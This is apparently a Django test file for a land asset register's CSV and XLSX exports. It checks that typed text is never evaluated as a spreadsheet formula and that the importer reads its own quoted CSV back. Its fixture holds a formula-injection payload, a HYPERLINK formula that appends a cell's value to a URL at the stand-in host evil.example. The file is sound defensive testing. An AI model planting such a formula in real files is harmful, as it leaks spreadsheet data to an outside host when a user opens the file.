"""A text a user typed never becomes a formula in Sipanah's CSV and XLSX files (hardening finding 2): the register
export (now and as of a date), the query export, every finding's CSV/XLSX, the audit workbook and the activity log.
CSV text cells that a spreadsheet would evaluate get a leading apostrophe (OWASP); XLSX text is a string cell; numbers
stay numbers; and the importer reads its own CSV back to the same text."""

from __future__ import annotations

import csv
import io
import re
import zipfile

from django.urls import reverse
from django.utils import timezone

from assets.models import LandAsset
from assets.register import permissions, services
from assets.transfer import exports
from assets.transfer.importing.run import run_import
from tests.factories import every_record, make_asset, make_user, square
from tests.transfer.import_case import ImportTestCase

FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Klik")'


def xlsx_formulas(content: bytes) -> list[str]:
    """Every formula element in the workbook's sheets."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        return [f for name in sheets for f in re.findall(rb"<f>(.*?)</f>", book.read(name))]


def xlsx_texts(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return "".join(book.read(n).decode() for n in book.namelist() if n.startswith("xl/"))


class FormulaCellTests(ImportTestCase):
    def setUp(self):
        super().setUp()
        lon, lat = 116.83, -1.25
        self.asset = make_asset(
            agency=self.agency, geom=square(lon, lat), nama_barang=FORMULA, alamat="@SUM(A1:A9)",
            keterangan="-1+2",
        )  # fmt: skip
        self.client.force_login(make_user("auditor", permissions.AUDITOR))

    def assert_csv_quotes_formulas(self, text: str) -> None:
        values = [v for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for v in row]
        self.assertIn("'" + FORMULA, values)
        self.assertNotIn(FORMULA, values)
        self.assertFalse(
            [v for v in values if v and v[0] in "=+-@" and not re.fullmatch(r"-?\d+([.,]\d+)?", v)], values
        )

    def test_register_export_csv_and_xlsx_keep_text_as_text(self):
        for params in ({}, {"as_of": timezone.localdate().isoformat()}):
            csv_response = self.client.get(reverse("asset-export"), {"format": "csv", **params})
            self.assert_csv_quotes_formulas(b"".join(csv_response.streaming_content).decode())
            xlsx = b"".join(self.client.get(reverse("asset-export"), {"format": "xlsx", **params}).streaming_content)
            self.assertEqual(xlsx_formulas(xlsx), [])
            self.assertIn("<t>=HYPERLINK(", xlsx_texts(xlsx))  # the text, as a string cell

    def test_query_export_keeps_text_as_text(self):
        bbox = "116.8,-1.3,116.9,-1.2"
        response = self.client.get(reverse("asset-query-export"), {"format": "csv", "bbox": bbox})
        self.assert_csv_quotes_formulas(b"".join(response.streaming_content).decode())

    def test_findings_workbook_and_activity_log_keep_text_as_text(self):
        finding = self.client.get(reverse("audit-finding", args=["uncertified"]), {"format": "csv"})
        self.assert_csv_quotes_formulas(b"".join(finding.streaming_content).decode())
        book = b"".join(
            self.client.get(reverse("audit-finding", args=["uncertified"]), {"format": "xlsx"}).streaming_content
        )
        self.assertEqual(xlsx_formulas(book), [])
        report = b"".join(self.client.get(reverse("audit-report-xlsx")).streaming_content)
        self.assertEqual(xlsx_formulas(report), [])
        services.asset_update(asset=self.asset, user=None, data={"keterangan": FORMULA}, expected_version=1)
        log = self.client.get(reverse("audit-log"), {"format": "csv"})
        self.assert_csv_quotes_formulas(b"".join(log.streaming_content).decode())  # the change's "after" cell

    def test_the_importer_reads_its_own_quoted_csv_back(self):
        path = self.tmp / "register.csv"
        exports.write_export(every_record(), fmt="csv", path=path)
        raw = path.read_text(encoding="utf-8")
        self.assertIn("'" + FORMULA.replace('"', '""'), raw)
        copy = self.tmp / "copy.csv"  # the same rows under new register numbers: imported as new assets
        copy.write_text(raw.replace(f',"{self.asset.nomor_register}",', ',"9999",'), encoding="utf-8")
        report = run_import(copy)
        self.assertTrue(report.committed, report.errors)
        self.assertEqual((report.created, report.updated), (1, 0))
        imported = LandAsset.objects.get(nomor_register="9999")
        self.assertEqual((imported.nama_barang, imported.alamat, imported.keterangan), (FORMULA, "@SUM(A1:A9)", "-1+2"))
        self.assertEqual(imported.nilai_perolehan, self.asset.nilai_perolehan)
